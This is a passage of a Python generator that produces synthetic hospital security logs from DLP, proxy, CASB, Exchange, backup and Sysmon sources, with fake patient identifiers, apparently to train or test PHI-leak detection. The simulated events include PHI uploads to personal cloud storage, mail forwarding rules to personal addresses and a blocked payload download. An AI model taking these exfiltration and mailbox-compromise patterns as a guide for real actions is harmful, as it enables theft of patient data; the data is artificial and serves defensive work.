       "account": ("Credit Card Number", "50842eb7-edc8-4019-85dd-5a5c1f2bb085")}


def g_purview(phi):
    L = Line("purview_endpoint_dlp_json")
    t = tick()
    s = rs()
    op = R.choice(["FileCopiedToRemovableMedia", "FilePrinted", "FileUploadedToCloud", "FileCopiedToClipboard"])
    det = []
    if phi:
        p = pat()
        fp = pfile(p)
        kinds = R.sample(["ssn", "mrn", "name", "date", "health_plan", "account"], R.randint(1, 3))
        for k in kinds:
            v = {"ssn": p.ssn, "mrn": p.mrn, "name": fname(p, R.choice(["fl", "LF", "lf"])), "date": fdate(p.dob, R.choice([0, 1, 6])),
                 "health_plan": p.plan, "account": card()}[k]
            det.append((k, v))
        obj_path = S(user_folder(s), *fp)
    else:
        obj_path = "".join(safe_path(s))
        if R.random() < 0.4:
            det.append(("account", "4111111111111111"))
    sit = []
    for k, v in det:
        name, sid = SIT[k]
        sit.append({"SensitiveInfoTypeId": sid, "Count": R.randint(1, 14), "Confidence": R.choice([75, 85]),
                    "SensitiveInfoTypeName": name, "ClassifierType": "Content",
                    "SensitiveInformationDetectionsInfo": {"DetectedValues": [{"Name": name, "Value": S((v, k)) if phi else v}]}})
    obj = {"CreationTime": iso(t, 0, False), "Id": guid(), "Operation": op, "OrganizationId": "3e1c8d2a-9b44-4f0e-8a71-5d2c6f0b1e93",
           "RecordType": 63, "UserKey": upn(s), "UserType": 0, "Version": 1, "Workload": "Endpoint", "UserId": upn(s),
           "ClientIP": int_ip(), "DeviceName": hostn(s).lower() + ".sbrmc.local", "Platform": 1,
           "Application": R.choice(["Microsoft Edge", "WINWORD.EXE", "AcroRd32.exe", "explorer.exe", "chrome.exe"]),
           "ObjectId": obj_path, "FileExtension": "", "FileSize": R.randint(30000, 4000000), "FileType": "Document",
           "Sha256": sha256(), "SensitiveInfoTypeData": sit,
           "PolicyMatchInfo": {"PolicyId": "b7d3e5a0-41c2-4f6e-9d8b-2a6c0e9f1d47", "PolicyName": "HIPAA - PHI Endpoint Protection",
                               "RuleId": {"FilePrinted": "1c9a7e22-5b3d-4e80-a6f1-7d2e4b9c0a15", "FileCopiedToRemovableMedia": "6e4f2b91-8d07-4c3a-b5e2-9f1a3d7c6b08"}.get(op, "d08b5c3e-2f9a-47d1-8e6b-4a0c7f2e9d53"), "RuleName": "Block PHI to %s" % {"FilePrinted": "unmanaged printers", "FileCopiedToRemovableMedia": "USB"}.get(op, "personal cloud"),
                               "RuleActions": [R.choice(["Block", "Warn", "Audit"])]},
           "EnforcementMode": R.choice([1, 3, 4])}
    txt = ptext(obj_path.pieces) if isinstance(obj_path, S) else obj_path
    obj["FileExtension"] = txt.rsplit(".", 1)[-1]
    if op == "FileCopiedToRemovableMedia":
        obj["RemovableMediaDeviceAttributes"] = {"Manufacturer": R.choice(["SanDisk", "Kingston", "Samsung"]),
                                                 "Model": R.choice(["Cruzer Glide", "DataTraveler 3.0", "BAR Plus"]),
                                                 "SerialNumber": digits(4) + hexs(16).upper(), "Capacity": R.choice([32, 64, 128]) * 1024 ** 3, "BusType": "USB"}
    elif op == "FilePrinted":
        obj["TargetPrinterName"] = R.choice(["\\\\sbr-print02\\ED-Triage-HP-M609", "HP LaserJet Pro M404 (Home)", "Microsoft Print to PDF"])
    elif op == "FileUploadedToCloud":
        obj["TargetDomain"] = R.choice(["drive.google.com", "www.dropbox.com", "wetransfer.com", "icloud.com"])
    jemit(L, obj)
    return L


def snippet(p):
    """Matched-content snippet pieces containing PHI."""
    k = R.randint(0, 10)
    if k == 9:
        return ["<td class=\"ptname\">", (fname(p, "LF"), "name"), "</td><img alt=\"Patient photo\" src=\"data:image/jpeg;base64,",
                (PHOTO_HDR + b64blob(160), "photo"), "...\">"]
    if k == 10:
        return ["Trauma hx: MVC ", (fdate(svc_date(), 0), "date"), ", pt ", (fname(p, "fl"), "name"), " driver, plate WI ",
                ("%s%d%s" % ("".join(R.choice("ABCDEFGHJKLMNPRSTUVWXYZ") for _ in range(3)), R.randint(1000, 9999), ""), "vehicle")]
    if k == 0:
        return ["Patient: ", (fname(p, "lf"), "name"), "  DOB: ", (fdate(p.dob, 0), "date"), "  MRN: ", (p.mrn, "mrn"), "  SSN: ", (p.ssn, "ssn")]
    if k == 1:
        dg = "".join(c for c in p.phone if c.isdigit())[-10:]
        return ["PID|1||", (p.mrn, "mrn"), "^^^SBR^MR||", (fname(p, "hl7"), "name"), "||", (fdate(p.dob, 3), "date"), "|", R.choice("MF"),
                "|||", (p.street, "address"), "^^", (p.city, "address"), "^WI^", (p.zip, "zip"), "||", ("(%s)%s-%s" % (dg[:3], dg[3:6], dg[6:]), "phone"),
                "|||||", (p.har, "account"), "|", (p.ssn.replace("-", ""), "ssn")]
    if k == 2:
        return ["Guarantor ", (fname(p, "fl"), "name"), " Acct# ", (p.har, "account"), " Card ", (card(), "account"), " exp 09/27"]
    if k == 3:
        return ["Medicare ID ", (p.plan, "health_plan"), " Member: ", (fname(p, "LFM"), "name"), " DOB ", (fdate(p.dob, 8), "date")]
    if k == 4:
        return ["Pt ", (fname(p, "fl"), "name"), ", ", (str(R.randint(90, 104)), "age"), " y/o, admitted ", (fdate(svc_date(), 1), "date"), " from ",
                (p.city, "address"), " SNF"]
    if k == 5:
        return ["ROI request from patient ", (fname(p, "fl"), "name"), " - fax records to ", (mk_phone(), "fax"), ", callback ", (p.phone, "phone")]
    if k == 6:
        return ["PatientSecure palm vein template for ", (fname(p, "lf"), "name"), ": ",
                ("PVT1:" + "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(60)), "biometric")]
    if k == 7:
        return ["Nombre: ", (fname(p, "fl"), "name"), "  Fecha de nacimiento: ", (fdate(p.dob, 5).replace(".", "/"), "date"),
                "  Domicilio: ", (p.street, "address"), ", ", (p.city, "address"), " WI ", (p.zip, "zip")]
    return ["Subscriber ", (fname(p, "LF"), "name"), " Member ID ", (p.plan, "health_plan"), " Grp 0041872 DL ", (p.dl, "license")]


def g_forcepoint(phi):
    L = Line("forcepoint_dlp_cef")
    t = tick()
    s = rs()
    ch = R.choice([("PrintIncident", "Endpoint Printing"), ("RemovableMediaIncident", "Endpoint Removable Media"),
                   ("WebIncident", "Endpoint HTTPS"), ("EmailIncident", "Endpoint Email")])
    L.t("<134>1 %s sbr-dlp01 Forcepoint-DLP - - - CEF:0|Forcepoint|Forcepoint DLP|8.9.1.0|%s|%s|%d|" %
        (iso(t, 3), ch[0], ch[1], R.randint(3, 9)))
    L.t("act=%s duser=SBRMC\\\\%s suser=%s dhost=%s " % (R.choice(["Blocked", "Permitted", "Quarantined"]), s[0], s[0], hostn(s)))
    if phi:
        p = pat()
        fp = pfile(p) if R.random() < 0.6 else [R.choice(["facesheet.pdf", "Report.pdf", "export (3).csv", "Document1.docx"])]
        L.t("fname=")
        L.put(fp, cesc)
        L.t(" cs1Label=PolicyName cs1=HIPAA PHI - Patient Identifiers cs2Label=MatchedRules cs2=%s cs3Label=Snippet cs3=" %
            R.choice(["US SSN;Name + DOB", "HL7 PID segment", "Medicare MBI", "PCI Card Number", "Name + MRN"]))
        L.put(snippet(p), cesc)
    else:
        L.t("fname=")
        L.t(cesc(safe_file()))
        snip = R.choice(["SSN ***-**-%s (masked)" % digits(4), "078-05-1120", "Card 4111111111111111 exp 12/30",
                         "Patient: ZZTEST, PATIENT  MRN: 99999999", "Acct XXXX%s" % digits(4), "Employee ID 00%s" % digits(5)])
        L.t(" cs1Label=PolicyName cs1=%s cs2Label=MatchedRules cs2=%s cs3Label=Snippet cs3=" %
            (R.choice(["PCI - Cardholder Data", "HIPAA PHI - Patient Identifiers", "Confidential - Finance"]), R.choice(["US SSN", "PCI Card Number", "Keyword: CONFIDENTIAL"])))
        L.t(cesc(snip))
    L.t(" cn1Label=IncidentId cn1=%d cn2Label=ViolationTriggers cn2=%d fsize=%d" % (R.randint(2000000, 2999999), R.randint(1, 30), R.randint(20000, 800000)))
    return L


def g_zscaler(phi):
    L = Line("zscaler_nss_leef")
    t = tick()
    s = rs()
    tab = "\t"
    method, code = "GET", "200"
    fname_pieces = None
    if phi:
        p = pat()
        k = R.randint(0, 3)
        if k == 0:
            ff, ll = ascii_fold(p.first).lower().replace(" ", "-"), ascii_fold(p.last).lower().replace(" ", "-").replace("'", "")
            url = [("www.gofundme.com/f/help-%s-%s-%s" % (ff, ll, R.choice(["beat-cancer", "recover", "come-home", "medical-bills"])), "url")]
            ucat, app = "Social Networking", "General Browsing"
        elif k == 1:
            q = (ascii_fold(p.first) + "+" + ascii_fold(p.last)).lower().replace(" ", "+").replace("'", "%27")
            url = ["www.google.com/search?q=", (q, "name"), "+", R.choice(["obituary", "arrest", "facebook", "address"]), "&oq=", (q, "name"), "&sourceid=chrome&ie=UTF-8"]
            ucat, app = "Web Search", "Google Search"
        elif k == 2:
            url = [("www.facebook.com/%s.%s.%s" % (ascii_fold(p.first).lower().replace(" ", ""), ascii_fold(p.last).lower().replace(" ", "").replace("'", ""), digits(3)), "url")]
            ucat, app = "Social Networking", "Facebook"
        else:
            url = ["drive.google.com/upload/drive/v3/files?uploadType=resumable&upload_id=" + hexs(24)]
            fname_pieces = pfile(p)
            ucat, app, method = "Online Storage", "Google Drive", "POST"
    else:
        u0, ucat, app, code = R.choice([
            ("login.microsoftonline.com/common/oauth2/v2.0/token", "Professional Services", "Office365", "200"),
            ("sbrmc.epic.com/Interconnect-PRD/wcf/Epic.Security", "Health", "General Browsing", "200"),
            ("ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab", "Internet Services", "General Browsing", "304"),
            ("www.uptodate.com/contents/search?search=sepsis%20bundle&sp=0", "Health", "General Browsing", "200"),
            ("outlook.office365.com/mail/", "Professional Services", "Office365", "200"),
            ("185.220.101.47/p.bin", "Miscellaneous or Unknown", "General Browsing", "403"),
            ("teams.microsoft.com/api/mt/amer/beta/users/", "Professional Services", "Microsoft Teams", "204"),
            ("www.cdc.gov/flu/weekly/index.htm", "Health", "General Browsing", "200"),
            ("ts01-b.cloudsink.net/sensor/heartbeat", "Internet Services", "General Browsing", "200"),
            ("www.dropbox.com/upload", "Online Storage", "Dropbox", "403"),
            ("dl.google.com/chrome/install/ChromeStandaloneSetup64.exe", "Internet Services", "General Browsing", "302")])
        url = [u0]
    verdict = "Blocked" if code == "403" else "Allowed"
    L.t("LEEF:1.0|Zscaler|NSS|4.1|%s|cat=%s" % (verdict, verdict))
    L.t(tab + "devTime=" + t.strftime("%b %d %Y %H:%M:%S") + " UTC" + tab + "devTimeFormat=MMM dd yyyy HH:mm:ss z")
    L.t(tab + "src=%s%sdst=%s%ssrcPostNAT=165.225.%d.%d%srealm=SBRMC%susrName=%s" % (int_ip(), tab, pub_ip(), tab, R.randint(0, 255), R.randint(1, 254), tab, tab, upn(s)))
    L.t(tab + "srcBytes=%d%sdstBytes=%d%srole=Clinical Staff%spolicy=%s" % (R.randint(300, 90000), tab, R.randint(300, 900000), tab, tab,
                                                                            R.choice(["Default Allow", "Block Personal Storage Uploads", "Caution Social"])))
    L.t(tab + "url=")
    L.put(url)
    L.t(tab + "referer=None" + tab + "urlcategory=%s%surlsupercategory=%s%sappclass=%s%sappname=%s" % (ucat, tab, {"Web Search": "Search Engines", "Online Storage": "Internet Communication"}.get(ucat, ucat.split()[0]), tab, "Web", tab, app))
    L.t(tab + "malwaretype=None%sthreatname=None%sriskscore=%d" % (tab, tab, R.choice([0, 0, 0, 12, 45])))
    if fname_pieces:
        L.t(tab + "dlpdict=HIPAA%sdlpeng=SBR-PHI-Engine%sfilename=" % (tab, tab))
        L.put(fname_pieces)
    else:
        L.t(tab + "dlpdict=None" + tab + "dlpeng=None")
    L.t(tab + "reqmethod=%s%srespcode=%s%sua=Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36" % (method, tab, code, tab))
    return L


def g_netskope(phi):
    L = Line("netskope_casb_json")
    t = tick()
    s = rs()
    app, inst = R.choice([("Google Drive", "gmail.com"), ("Dropbox", "personal"), ("iCloud Drive", "icloud.com"), ("Box", "personal"), ("WeTransfer", "")])
    ev = {"_id": hexs(24), "timestamp": epoch(t), "type": "nspolicy", "access_method": "Client", "activity": "Upload",
          "alert": "yes" if phi else "no", "alert_type": "DLP" if phi else "policy", "app": app, "appcategory": "Cloud Storage",
          "instance_id": personal_mail(s) if (inst == "gmail.com" and R.random() < 0.6) else inst, "ccl": "high",
          "user": upn(s), "userip": int_ip(), "src_location": "Madison", "hostname": hostn(s), "os": "Windows 11",
          "browser": R.choice(["Chrome", "Edge", "Native"])}
    if phi:
        p = pat()
        fp = pfile(p)
        ev.update({"object": S(*fp), "object_type": "File", "file_size": R.randint(40000, 6000000), "md5": hexs(32),
                   "dlp_profile": "HIPAA-PHI", "dlp_rule": R.choice(["US-SSN", "Patient Name + DOB", "MRN-Pattern", "Medicare-MBI"]),
                   "dlp_rule_count": R.randint(1, 40), "dlp_incident_id": R.randint(10**17, 10**18), "dlp_file": S(*fp)})
        if R.random() < 0.35:
            ev["dlp_match_sample"] = S(*snippet(p))
        ev.update({"policy": "Block PHI Upload to Personal Cloud", "action": "block"})
    else:
        ev.update({"object": safe_file(), "object_type": "File", "file_size": R.randint(4000, 600000), "md5": hexs(32),
                   "policy": R.choice(["Allow Sanctioned Box", "Coach Personal Storage", "Default"]), "action": R.choice(["allow", "useralert", "allow"])})
    jemit(L, ev, sp=R.random() < 0.5)
    return L


def g_spo(phi):
    L = Line("o365_sharepoint_audit_json")
    t = tick()
    s = rs()
    u = upn(s)
    site = "https://sbrmc-my.sharepoint.com/personal/%s/" % u.replace(".", "_").replace("@", "_")
    if phi:
        p = pat()
        fp = pfile(p)
        op = R.choice(["FileUploaded", "FileSyncUploadedFull", "FileDownloaded", "AnonymousLinkCreated", "SharingInvitationCreated", "FileAccessed"])
        rel = R.choice(["Documents/Desktop", "Documents/Scans", "Documents/ROI"])
        obj = {"CreationTime": iso(t, 0, False), "Id": guid(), "Operation": op, "OrganizationId": "3e1c8d2a-9b44-4f0e-8a71-5d2c6f0b1e93",
               "RecordType": R.choice([6, 14]), "UserKey": "i:0h.f|membership|1003200%s@live.com" % hexs(9).upper(), "UserType": 0,
               "Version": 1, "Workload": "OneDrive", "ClientIP": pub_ip() if R.random() < 0.3 else int_ip(), "UserId": u,
               "ObjectId": S(site + rel + "/", *fp), "ItemType": "File", "SiteUrl": site,
               "SourceFileExtension": ptext(fp).rsplit(".", 1)[-1], "SourceFileName": S(*fp), "SourceRelativeUrl": rel,
               "UserAgent": R.choice(["Microsoft SkyDriveSync 24.086.0428.0002 ship; Windows NT 10.0 (22631)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/125.0.0.0"])}
        if op in ("SharingInvitationCreated", "AnonymousLinkCreated") and R.random() < 0.7:
            obj["TargetUserOrGroupType"] = "Guest"
            obj["TargetUserOrGroupName"] = S((p.email, "email"))
    else:
        op = R.choice(["PageViewed", "FileAccessed", "FileModified", "FilePreviewed", "FileSyncDownloadedFull"])
        site, f = R.choice([(site, "Documents/Desktop/" + safe_file()), (site, "Documents/" + safe_file()),
                            ("https://sbrmc.sharepoint.com/sites/Nursing/", "Shared Documents/Policies/Hand Hygiene Policy 2024.pdf"),
                            ("https://sbrmc.sharepoint.com/sites/Nursing/", "Shared Documents/Education/Skills Fair June.pptx"),
                            ("https://sbrmc.sharepoint.com/sites/SecOps/", "Shared Documents/Runbooks/DLP triage v4.docx")])
        obj = {"CreationTime": iso(t, 0, False), "Id": guid(), "Operation": op, "OrganizationId": "3e1c8d2a-9b44-4f0e-8a71-5d2c6f0b1e93",
               "RecordType": 6, "UserKey": "i:0h.f|membership|1003200%s@live.com" % hexs(9).upper(), "UserType": 0, "Version": 1,
               "Workload": "SharePoint" if "sites" in site else "OneDrive", "ClientIP": int_ip(), "UserId": u,
               "ObjectId": site + f, "ItemType": "File" if op != "PageViewed" else "Page", "SiteUrl": site,
               "SourceFileExtension": f.rsplit(".", 1)[-1], "SourceFileName": f.rsplit("/", 1)[-1], "SourceRelativeUrl": f.rsplit("/", 1)[0]}
    jemit(L, obj)
    return L


def subj(p):
    k = R.randint(0, 7)
    if k == 0:
        return ["FW: Path results - ", (fname(p, "lf"), "name"), " (MRN ", (p.mrn, "mrn"), ")"]
    if k == 1:
        return ["RE: referral for ", (fname(p, "fl"), "name"), " DOB ", (fdate(p.dob, 1), "date")]
    if k == 2:
        return ["Cita de seguimiento ", (fdate(svc_date(), 9), "date"), " - ", (fname(p, "fl"), "name")]
    if k == 3:
        return ["FW: denial HAR ", (p.har, "account"), " ", (fname(p, "LF"), "name")]
    if k == 4:
        return ["Your lab results from ", (fdate(svc_date(), 6), "date")]
    if k == 5:
        return ["Fwd: Scan_", (p.mrn, "mrn"), ".pdf"]
    if k == 6:
        return ["[SECURE] Records request ", ("R24-" + digits(5), "other_id"), " ", (fname(p, "il"), "name")]
    return ["FW: ", (fname(p, "lower"), "name"), " ", (str(R.randint(90, 101)), "age"), "yo fall - daughter calling"]


SAFE_SUBJ = ["Weekly OR utilization", "[EXTERNAL] Invoice 88213 past due", "Action required: password expires in 3 days",
             "Re: PTO coverage 6/14", "Zscaler maintenance window Sat 02:00-04:00", "[EXTERNAL] DocuSign: Please sign PO 4500218834",
             "Veeam job report: EHR-SQL-Nightly [Success]", "Lunch & learn - sepsis bundle", "Your mailbox is almost full",
             "Huddle notes 6/3", "[EXTERNAL] Shared document: Q2 Remittance.htm"]


def g_trace(phi):
    L = Line("exo_messagetrace_csv")
    if not phi and R.random() < 0.12:
        L.t('"Received","SenderAddress","RecipientAddress","Subject","Status","ToIP","FromIP","Size","MessageId","MessageTraceId"')
        return L
    t = tick()
    s = rs()
    sender, rcpt = upn(s), None
    if phi:
        p = pat()
        sj = subj(p)
        r = R.random()
        if r < 0.35:
            rcpt = [(p.email, "email")]
        elif r < 0.6:
            rcpt = [personal_mail(s)]
        else:
            rcpt = [R.choice(["him-roi@sbrmc.org", "referrals@dcfamilymed.com", "nurseline@sbrmc.org", "appeals@wpsic.com"])]
        if not has_span(sj) and not has_span(rcpt):
            sj = sj + [" - ", (fname(p, "fl"), "name")]
    else:
        sj = [R.choice(SAFE_SUBJ)]
        rcpt = [R.choice([upn(rs()), "soc@sbrmc.org", personal_mail(s), "ap@medline.com"])]
    fields = [[t.strftime("%-m/%-d/%Y %-I:%M:%S %p")], [sender], rcpt, sj, [R.choice(["Delivered", "FilteredAsSpam", "Failed", "Expanded", "Quarantined"])],
              [R.choice(["", "52.101.%d.%d" % (R.randint(0, 255), R.randint(1, 254))])], [int_ip()], [str(R.randint(8000, 9000000))],
              ["<%s@SBR-EXCH%02d.sbrmc.local>" % (hexs(32).upper(), R.randint(1, 4))], [guid()]]
    for i, f in enumerate(fields):
        if i:
            L.t(",")
        csv_field(L, f, always=True)
    return L


def g_exo_audit(phi):
    L = Line("exo_admin_audit_json")
    t = tick()
    s = rs()
    u = upn(s)
    base = {"CreationTime": iso(t, 0, False), "Id": guid(), "OrganizationId": "3e1c8d2a-9b44-4f0e-8a71-5d2c6f0b1e93",
            "RecordType": 1, "ResultStatus": "True", "UserKey": "1003200" + hexs(9).upper(), "UserType": 2, "Version": 1,
            "Workload": "Exchange", "ClientIP": "%s:%d" % (pub_ip() if R.random() < 0.5 else int_ip(), R.randint(1024, 65000)), "UserId": u}
    if phi:
        p = pat()
        base.update({"Operation": R.choice(["Send", "SendAs", "MailItemsAccessed"]), "RecordType": 2, "LogonType": 0,
                     "MailboxOwnerUPN": u, "Item": {"Id": "RgAAAA" + hexs(40).upper(), "InternetMessageId": "<%s@SBR-EXCH02.sbrmc.local>" % hexs(32).upper(),
                                                     "ParentFolder": {"Path": "\\Sent Items"}, "Subject": S(*subj(p)),
                                                     "SizeInBytes": R.randint(9000, 4000000)}})
        if R.random() < 0.5:
            base["Item"]["Attachments"] = S(*pfile(p), " (%db)" % R.randint(20000, 900000))
        if not has_span(base["Item"]["Subject"].pieces) and "Attachments" not in base["Item"]:
            base["Item"]["Attachments"] = S(*pfile(p))
    else:
        op = R.choice(["New-InboxRule", "Set-InboxRule", "Set-Mailbox", "New-TransportRule", "Add-MailboxPermission"])
        params = {"New-InboxRule": [{"Name": "Name", "Value": R.choice([".", "..", "Archive", "x"])},
                                    {"Name": "ForwardTo", "Value": personal_mail(s)},
                                    {"Name": "SubjectContainsWords", "Value": R.choice(["invoice;payment;wire", "lab results;referral", "password;MFA"])},
                                    {"Name": "MarkAsRead", "Value": "True"}, {"Name": "StopProcessingRules", "Value": "True"}],
                  "Set-InboxRule": [{"Name": "Identity", "Value": u + "\\%d" % R.randint(10**17, 10**18)},
                                    {"Name": "MoveToFolder", "Value": "RSS Subscriptions"}, {"Name": "DeleteMessage", "Value": "True"}],
                  "Set-Mailbox": [{"Name": "Identity", "Value": u}, {"Name": "ForwardingSmtpAddress", "Value": "smtp:" + personal_mail(s)},
                                  {"Name": "DeliverToMailboxAndForward", "Value": "True"}],
                  "New-TransportRule": [{"Name": "Name", "Value": "Notify SOC - PHI to external"},
                                        {"Name": "SentToScope", "Value": "NotInOrganization"},
                                        {"Name": "MessageContainsDataClassifications", "Value": "U.S. Social Security Number (SSN);SBRMC Medical Record Number"},
                                        {"Name": "GenerateIncidentReport", "Value": "soc@sbrmc.org"}],
                  "Add-MailboxPermission": [{"Name": "Identity", "Value": "nurseline@sbrmc.org"}, {"Name": "User", "Value": u},
                                            {"Name": "AccessRights", "Value": "FullAccess"}]}[op]
        base.update({"Operation": op, "ObjectId": "SBRMC.onmicrosoft.com/Users/" + u, "Parameters": params})
    jemit(L, base, sp=True)
    return L


PHOTO_HDR = "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODQwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/"


def b64blob(n):
    al = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(R.choice(al) for _ in range(n))


def g_eml(phi):
    L = Line("transport_rule_report_eml")
    t = tick()
    s = rs()
    L.t("%s SBR-EXCH02 MSExchangeTransport: IncidentReport rule=\"%s\" msgid=<%s@SBR-EXCH02.sbrmc.local> action=%s body=\"" %
        (iso(t, 3), R.choice(["Notify SOC - PHI to external", "Block auto-forward to consumer domains"]), hexs(32).upper(),
         R.choice(["Notify", "RejectMessage", "Quarantine"])))
    nl = "\\r\\n"
    if phi:
        p = pat()
        k = R.randint(0, 2)
        if k == 0:
            rel = pat()
            L.put(["-----Original Message-----", nl, "From: ", (fname(rel, "fl"), "name"), " <", (rel.email, "email"), ">", nl,
                   "Sent: ", t.strftime("%A, %B %-d, %Y %-I:%M %p"), nl, "To: Nurse Line <nurseline@sbrmc.org>", nl,
                   "Subject: question about my ", R.choice(["mom", "dad", "grandmother", "uncle"]), nl, nl, "Hi, my ", R.choice(["parent", "relative", "family member"]), " ",
                   (fname(p, "fl"), "name"), " (DOB ", (fdate(p.dob, 1), "date"), ", ", ])
            if p.age > 89:
                L.put(["age ", (str(p.age), "age"), ") "])
            else:
                L.put(["MRN ", (p.mrn, "mrn"), ") "])
            L.put(["was discharged ", (fdate(svc_date(), 6), "date"), " and the pharmacy never got the script. Please call me at ", (rel.phone, "phone"), "."])
            L.t(nl + "Thanks" + nl + "Sent from my iPhone")
        elif k == 1:
            L.put(["From: ", s[1], " <", upn(s), ">", nl, "To: ", (p.email, "email"), nl, "Subject: ", *subj(p), nl,
                   "MIME-Version: 1.0", nl, "Content-Type: multipart/mixed; boundary=\\\"_004_", hexs(12), "_\\\"", nl, nl,
                   "Hello ", (p.first, "name"), ", attached is your after-visit summary. Reply with your ", "address if it changed from ",
                   (p.street, "address"), ", ", (p.city, "address"), " WI ", (p.zip, "zip"), "."])
        else:
            L.put(["Content-Type: image/jpeg; name=\\\"pt_photo_", (p.mrn, "mrn"), ".jpg\\\"", nl, "Content-Disposition: attachment; filename=\\\"pt_photo_",
                   (p.mrn, "mrn"), ".jpg\\\"", nl, "Content-Transfer-Encoding: base64", nl, nl, (PHOTO_HDR + b64blob(220), "photo"), "..."])
    else:
        L.put(["From: ", s[1], " <", upn(s), ">", nl, "To: ", personal_mail(s), nl, "Subject: ", R.choice(SAFE_SUBJ), nl, nl,
               R.choice(["Forwarding the schedule so I can see it at home.", "See attached timesheet.", "fyi - badge office hours changed",
                         "Please review the attached remittance advice and confirm wire details by EOD."]), nl, "--", nl, s[1], nl,
               "St. Brendan Regional Medical Center | 608-555-0140 ext. %d" % R.randint(4000, 4999)])
    L.t("\"")
    return L


def g_veeam(phi):
    L = Line("veeam_svc_log")
    t = tick()
    L.t("[%s] <%02d> " % (t.strftime("%d.%m.%Y %H:%M:%S"), R.randint(1, 60)))
    if phi:
        p = pat()
        k = R.randint(0, 2)
        if k == 0:
            L.put(["Info     [FLR] Restoring item '", R.choice(SHARE_FOLDERS), *pfile(p), "' to original location, initiated by 'SBRMC\\bkpadmin'"])
        elif k == 1:
            L.put(["Error    [FileLevelRestore] Access denied to 'D:\\Shares\\Cardiology\\DeviceClinic\\", *pfile(p), "' (0x80070005)"])
        else:
            L.put(["Info     [GuestIndexing] Search hit for query '", (fname(p, R.choice(["fl", "lower"])), "name"),
                   "' in restore point ", t.strftime("%d.%m.%Y"), ": \\\\sbr-fs01\\HIM\\Scans\\2019\\", *pfile(p)])
    else:
        job = R.choice(["EHR-SQL-Nightly", "FS01-HIM-Daily", "PACS-Archive-Weekly", "AD-DC-Hourly", "Exchange-DAG-Daily"])
        L.t(R.choice([
            "Info     [JobSession] Job '%s' (Backup) session '{%s}' started" % (job, guid()),
            "Info     [AgentClient] Processing disk 'SBR-SQL02 - Hard disk 2' (500 GB), read %.1f GB at %d MB/s" % (R.uniform(1, 300), R.randint(80, 900)),
            "Warning  [Proxy] Failed to connect to host 'sbr-esx07.sbrmc.local' port 902, retrying (%d/3)" % R.randint(1, 3),
            "Info     [JobSession] Job '%s' finished with Success. Processed: %d VMs, Transferred: %.1f GB, Duration: %s" % (job, R.randint(1, 40), R.uniform(1, 900), "%02d:%02d:%02d" % (R.randint(0, 5), R.randint(0, 59), R.randint(0, 59))),
            "Info     [Repository] Repository 'SBR-REPO-IMMUTABLE01' free space %.2f TB of 120.00 TB" % R.uniform(5, 60),
            "Error    [Snapshot] VSS writer 'SqlServerWriter' failed: 0x800423f4 Retryable error, CV %s" % digits(6),
            "Info     [GuestIndexing] Indexed %d files on 'SBR-FS01', catalog size %d MB" % (R.randint(10000, 900000), R.randint(100, 9000)),
            "Info     [License] Instances used: %d of 250 (build 12.1.2.172)" % R.randint(150, 249),
        ]))
    return L


def g_commvault(phi):
    L = Line("commvault_log")
    t = tick()
    job = R.randint(1880000, 1899999)
    L.t("%-5d %4x  %s %d " % (R.randint(1000, 9999), R.randint(0x100, 0xffff), t.strftime("%m/%d %H:%M:%S"), job))
    if phi:
        p = pat()
        k = R.randint(0, 1)
        if k == 0:
            L.put(["CVRestore  Restore file [", R.choice(SHARE_FOLDERS), *pfile(p), "] -> [\\\\sbr-fs01\\HIM\\Restore\\] status [Success]"])
        else:
            L.put(["Browse     Find request user [SBRMC\\bkpadmin] pattern [*", (fname(p, "us").split("_")[0] if R.random() < 0.5 else fname(p, "us"), "name"),
                   "*] client [sbr-fs01] matched [", str(R.randint(1, 30)), "] items"])
    else:
        L.t(R.choice([
            "Servant    [---- SCHEDULED BACKUP REQUEST ----], taskid [%d] Clnt[sbr-sql02] AppType[SQL Server][81] BkpSet[MSSQLSERVER] SubClnt[default] BkpLevel[Incremental][2]" % R.randint(1000, 9999),
            "JobSvr Obj Phase [4-Backup] for Backup Job Completed. Backup Set [defaultBackupSet], Subclient [HIM-Share], Storage Policy [SP-Disk-30d]",
            "ArchiveMgr Archive file [%d] committed, [%d] bytes, Copy [Primary]" % (R.randint(10**6, 10**7), R.randint(10**6, 10**10)),
            "JobManager Job pending. Reason [The MediaAgent [sbr-ma02] is not reachable]. Error code [62:2107]",
            "JobManager Throughput [%d] GB/hr, Data written [%.2f] GB, dedupe savings [%.1f]%%" % (R.randint(100, 1500), R.uniform(1, 400), R.uniform(40, 97)),
            "CVD        Connection to [sbr-cs01.sbrmc.local:8400] established, tunnel port 8403",
        ]))
    return L


def g_sysmon(phi):
    L = Line("sysmon_event_xml")
    t = tick()
    s = rs()
    if phi:
        p = pat()
        eid = R.choice([1, 11, 11])
    else:
        eid = R.choice([1, 3, 11, 22])
    L.t("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' "
        "Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>%d</EventID><Version>5</Version><Level>4</Level><Task>%d</Task>"
        "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID>"
        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>%s.sbrmc.local</Computer></System><EventData>" %
        (eid, eid, iso(t, 6), R.randint(10**6, 10**8), hostn(s)))
    d = lambda k, v: L.t("<Data Name='%s'>%s</Data>" % (k, xesc(v)))
    d("RuleName", "-")
    d("UtcTime", t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000))
    d("ProcessGuid", "{%s}" % guid())
    d("ProcessId", str(R.randint(400, 30000)))
    if eid == 1:
        if phi:
            img = R.choice(["C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"])
            d("Image", img)
